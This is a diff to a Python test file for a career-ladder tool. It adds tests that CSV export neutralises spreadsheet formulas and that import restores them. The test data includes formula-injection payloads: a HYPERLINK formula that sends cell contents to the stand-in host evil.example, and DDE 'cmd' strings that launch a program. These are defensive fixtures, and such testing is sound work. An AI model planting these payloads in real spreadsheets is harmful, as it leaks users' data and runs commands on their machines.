@@ -36,6 +36,7 @@ from pmframework.import_sheet import (
 )
 from pmframework.model import Ladder
 from pmframework.resources import builtin_names
+from pmframework.sheets import neutralize_formula, restore_formula
 from pmframework.validate import load_ladder, validate_paths
 
 FIXTURES = REPO / "tests" / "fixtures" / "spreadsheets"
@@ -830,3 +831,42 @@ def test_csv_import_export_import_is_stable(grid: list[list[str]]) -> None:
 def test_help_stays_fast_without_openpyxl() -> None:
     code = "import sys, pmframework.cli; sys.exit('openpyxl' in sys.modules)"
     assert subprocess.run([sys.executable, "-c", code], check=False).returncode == 0
+
+
+# --- formulas in CSV ---------------------------------------------------------------------------
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click for the ladder")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "- a bullet",
+    "'=already quoted",
+]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_csv_export_neutralises_formulas_and_import_restores_them(
+    run_cli: RunCli, tmp_path: Path, text: str
+) -> None:
+    data = yaml.safe_load(Path(ACME).read_text(encoding="utf-8"))
+    data["areas"][0]["name"] = text
+    level = data["tracks"][0]["levels"][0]
+    level["expectations"]["prioritization"]["criteria"] = [text]
+    ladder = tmp_path / "ladder.yaml"
+    ladder.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
+    sheet = tmp_path / "ladder.csv"
+    assert run_cli("export", str(ladder), "-o", str(sheet), "--track", "ic").exit_code == 0
+    cells = [c for row in csv.reader(io.StringIO(sheet.read_text("utf-8-sig"))) for c in row]
+    assert "'" + text in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    back = import_sheet(str(sheet)).ladder
+    assert back.areas[0].name == text
+    assert back.levels[0].expectations["prioritization"].criteria[0].text == text
+
+
+@given(st.text(max_size=12))
+def test_neutralising_a_cell_is_undone_exactly(text: str) -> None:
+    neutral = neutralize_formula(text)
+    assert neutral[:1] not in ("=", "+", "-", "@", "\t", "\r")
+    assert restore_formula(neutral) == text
